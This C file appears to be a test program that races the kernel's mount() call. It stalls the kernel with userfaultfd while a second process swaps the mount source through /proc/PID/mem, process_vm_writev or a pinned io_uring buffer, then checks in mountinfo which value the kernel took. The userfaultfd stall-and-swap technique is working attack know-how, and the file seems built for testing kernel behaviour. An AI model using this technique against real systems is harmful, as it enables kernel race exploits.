// SPDX-License-Identifier: Apache-2.0
/* attacks_foreign HOW DIR COUNT: mounts whose source another process, which has memory of its own, exchanges and puts back while the kernel is in them. The
 * kernel is held up at their type, before it copies the source, and at their options, behind it, by userfaultfd. HOW that process writes:
 *   mem      /proc/PID/mem, opened and closed each time
 *   vm       process_vm_writev
 *   pinned   an io_uring with a buffer that was registered by the victim
 *   nobody   nobody writes
 * "truth": what the kernel took, as mountinfo says: r (real) or f (fake).
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <signal.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/uio.h>

#include "attacks.h"
#include "uring.h"

#define PAGE 4096

static const char real[] = "realpart", fake[] = "fakepart";
static char *source, *held;	/* held: the page of the type, and that of the options */
static const char *how;
static struct uring ring;
static int uffd;

static void by_mem(pid_t pid, const char *word)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR);
	if (fd < 0 || pwrite(fd, word, sizeof(real), (off_t)(uintptr_t)source) != sizeof(real))
		die(path);
	close(fd);
}

static void by_vm(pid_t pid, const char *word)
{
	struct iovec from = { (char *)word, sizeof(real) }, to = { source, sizeof(real) };

	if (process_vm_writev(pid, &from, 1, &to, 1, 0) != sizeof(real))
		die("process_vm_writev");
}

static void by_ring(const char *word)
{
	struct io_uring_sqe e = { .opcode = IORING_OP_READ_FIXED, .addr = (uintptr_t)source, .len = sizeof(real) };
	int p[2];

	if (pipe(p) || write(p[1], word, sizeof(real)) != sizeof(real))
		die("pipe");
	e.fd = p[0];
	uring_queue(&ring, &e);
	uring_submit(&ring, 1);
	if (uring_reap(&ring).res != sizeof(real))
		die("READ_FIXED");
	close(p[0]);
	close(p[1]);
}

static void put(pid_t pid, const char *word)
{
	if (!strcmp(how, "mem"))
		by_mem(pid, word);
	else if (!strcmp(how, "vm"))
		by_vm(pid, word);
	else if (!strcmp(how, "pinned"))
		by_ring(word);
}

static void answer_faults(pid_t pid)
{
	static char pages[2][PAGE] __attribute__((aligned(PAGE))) = { "tmpfs", "size=64k" };
	struct uffdio_copy copy = { .len = PAGE };
	struct uffd_msg m;

	while (read(uffd, &m, sizeof(m)) == sizeof(m)) {
		bool options = m.arg.pagefault.address >= (uintptr_t)held + PAGE;

		put(pid, options ? real : fake);
		copy.dst = (uintptr_t)held + (options ? PAGE : 0);
		copy.src = (uintptr_t)pages[options];
		copy.copy = 0;
		if (ioctl(uffd, UFFDIO_COPY, &copy))
			die("UFFDIO_COPY");
	}
	_exit(1);
}

static char took(const char *dir)
{
	char line[8192], want[4200];
	FILE *f = fopen("/proc/self/mountinfo", "r");
	char c = 'e';

	snprintf(want, sizeof(want), " %s ", dir);
	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, want))
			c = strstr(line, " realpart ") ? 'r' : strstr(line, " fakepart ") ? 'f' : 'e';
	if (f)
		fclose(f);
	return c;
}

static void prepare(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register r = { .range = { .len = 2 * PAGE }, .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct iovec v;

	source = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	held = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(source, real, sizeof(real));
	uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	r.range.start = (uintptr_t)held;
	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api) || ioctl(uffd, UFFDIO_REGISTER, &r))
		exit(77);
	v = (struct iovec){ source, PAGE };
	if (!strcmp(how, "pinned")) {
		uring_setup(&ring, 4, 0, 0);
		if (syscall(SYS_io_uring_register, ring.fd, 0, &v, 1))
			exit(77);
	}
}

int main(int argc, char **argv)
{
	static const char *const names[] = { "mount", NULL };
	pid_t pid = getpid(), other;

	if (argc != 4)
		usage("attacks_foreign mem|vm|pinned|nobody DIR COUNT");
	how = argv[1];
	attacks_begin(names, atol(argv[3]));
	prepare();
	other = fork();
	if (!other)
		answer_faults(pid);
	for (long i = 0; i < atol(argv[3]); i++) {
		if (madvise(held, 2 * PAGE, MADV_DONTNEED))
			die("madvise");
		memcpy(source, real, sizeof(real));
		did("mount");
		if (mount(source, argv[2], held, 0, held + PAGE))
			die("mount");
		truth(took(argv[2]));
		if (umount2(argv[2], MNT_DETACH))
			die("umount");
	}
	kill(other, SIGKILL);
	work_wait(other);
	attacks_end();
	return 0;
}
